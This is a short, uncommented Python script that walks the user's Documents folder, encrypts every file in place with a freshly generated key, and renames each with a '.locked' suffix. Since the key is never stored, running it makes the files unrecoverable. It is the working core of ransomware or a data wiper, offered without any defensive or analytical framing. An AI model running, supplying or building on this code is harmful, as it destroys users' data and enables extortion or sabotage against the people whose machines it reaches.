import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
for root, _, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        path = os.path.join(root, name)
        with open(path, "rb") as f:
            data = f.read()
        with open(path, "wb") as f:
            f.write(box.encrypt(data))
        os.rename(path, path + ".locked")
